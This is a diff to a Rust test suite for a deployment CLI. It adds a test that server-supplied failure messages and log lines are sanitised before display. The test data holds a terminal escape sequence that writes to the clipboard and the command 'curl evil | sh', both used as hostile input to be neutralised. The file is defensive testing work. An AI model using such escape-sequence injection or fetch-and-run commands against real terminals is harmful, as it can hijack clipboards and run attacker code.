@@ -132,7 +132,7 @@ async fn a_registry_of_which_nothing_can_be_used_is_exit_1() {
 
 #[tokio::test]
 async fn a_dry_run_with_changes_is_exit_2() {
-    let stdout = "hello: hello 1.0: create 1\n\n\
+    let stdout = "hello 1.0: create 1\n\n\
                   TARGET       ACTION  VERSION  WHY\n\
                   home/laptop  create  1.0      -\n\n\
                   deployments/home/hello.yaml\n+id: 1\n\nplan sha256:01\nexit 2";
@@ -152,23 +152,52 @@ async fn what_the_server_refuses_is_a_sentence() {
     check("deployment delete nope", &[], said, "").await;
 }
 
+#[tokio::test]
+async fn control_characters_of_others_do_not_reach_a_terminal() {
+    let evil = "\u{1b}]52;c;eA==\u{7}exited\n  do: curl evil | sh";
+    let failure = json!({"code": "exited", "message": evil, "tries": 1, "of": 1});
+    let laptop = sample::placement("laptop", "FAILED(install)", "1.0");
+    let laptop = sample::with(laptop, json!({"failure": failure}));
+    let site = sample::site("home", "FAILED(install)", json!([laptop]));
+    let stages = [sample::hello("failed", "1.0", json!([site]))];
+    let clean = "exited (\u{fffd}]52;c;eA==\u{fffd}exited   do: curl evil | sh), try 1 of 1";
+    for line in ["deployment show hello", "deployment show hello --watch"] {
+        let (shown, noted) = ran(line, &stages, Out::on_terminal).await;
+        assert!(shown.contains(clean), "{shown:?}");
+        let all = shown.replace("\u{1b}[", "") + &noted;
+        assert!(!all.contains('\u{1b}') && !all.contains('\u{7}'), "{all:?}");
+        let (shown, _) = ran(line, &stages, |it| it).await;
+        assert!(shown.contains("\u{1b}]52;c;eA==\u{7}exited\n"), "a pipe gets it all: {shown:?}");
+    }
+    let (shown, _) = ran("logs hello", &stages, Out::on_terminal).await;
+    assert_eq!(shown, "\u{fffd}[31mred\ntab\there\nexit 0");
+    let (shown, _) = ran("logs hello --raw", &stages, Out::on_terminal).await;
+    assert_eq!(shown, "\u{1b}[31mred\ntab\there\nexit 0");
+}
+
 /// Runs a command against the stages of a deployment: each look at it shows
 /// the next one, and each change of stage is an event, but for progress.
 async fn check(line: &str, stages: &[DeploymentView], stdout: &str, stderr: &str) {
+    let (shown, noted) = ran(line, stages, |it| it).await;
+    assert_eq!(shown, stdout);
+    assert_eq!(noted, stderr);
+}
+
+/// What the command prints to standard output, with how it ended, and to standard error.
+async fn ran(line: &str, stages: &[DeploymentView], terminal: fn(Out) -> Out) -> (String, String) {
     let folder = tempfile::tempdir().expect("a folder");
     let socket = folder.path().join("api.sock");
     let listener = tokio::net::UnixListener::bind(&socket).expect("a socket");
     let server = tokio::spawn(axum::serve(listener, router(stages)).into_future());
     let (shown, noted) = (Buffer::default(), Buffer::default());
-    let mut out = Out::buffers(Format::Table, shown.clone(), noted.clone());
+    let mut out = terminal(Out::buffers(Format::Table, shown.clone(), noted.clone()));
     let global = Global { socket: Some(socket), ..Global::default() };
 
     let done = super::run(crate::cli::tests::operator(line), &global, &mut out).await;
 
     server.abort();
     let end = done.map_or_else(|error| format!("{error:#}"), |code| format!("exit {code}"));
-    assert_eq!(shown.text() + &end, stdout);
-    assert_eq!(noted.text(), stderr);
+    (shown.text() + &end, noted.text())
 }
 
 fn router(stages: &[DeploymentView]) -> axum::Router {
@@ -194,6 +223,7 @@ async fn answer(
         ("GET", "/api/v1/events") => story.stream(),
         ("GET", "/api/v1/deployments/hello") => story.next(),
         ("GET", "/api/v1/deployments/hello/why") => why(),
+        ("GET", "/api/v1/deployments/hello/logs") => logs(),
         ("GET", "/api/v1/registries") => axum::Json([registry("some", 2)]).into_response(),
         ("GET", "/api/v1/registries/some") => axum::Json(registry("some", 2)).into_response(),
         ("POST", "/api/v1/registries") => axum::Json(added(&body)).into_response(),
@@ -252,6 +282,13 @@ fn why() -> Response {
     .into_response()
 }
 
+fn logs() -> Response {
+    axum::Json(json!({"deployment": "hello", "site": "home", "node": "laptop", "previous": false, "lines": [
+        {"service": "web", "text": "\u{1b}[31mred"}, {"service": "web", "text": "tab\there"},
+    ]}))
+    .into_response()
+}
+
 fn added(body: &str) -> Value {
     if body.contains("/srv/broken") { registry("broken", 0) } else { registry("some", 2) }
 }
@@ -273,10 +310,10 @@ fn planned() -> Response {
 
 /// What was written, for a test to read.
 #[derive(Clone, Default)]
-struct Buffer(Arc<Mutex<Vec<u8>>>);
+pub(super) struct Buffer(Arc<Mutex<Vec<u8>>>);
 
 impl Buffer {
-    fn text(&self) -> String {
+    pub(super) fn text(&self) -> String {
         String::from_utf8(self.0.lock().expect("a lock").clone()).expect("UTF-8")
     }
 }
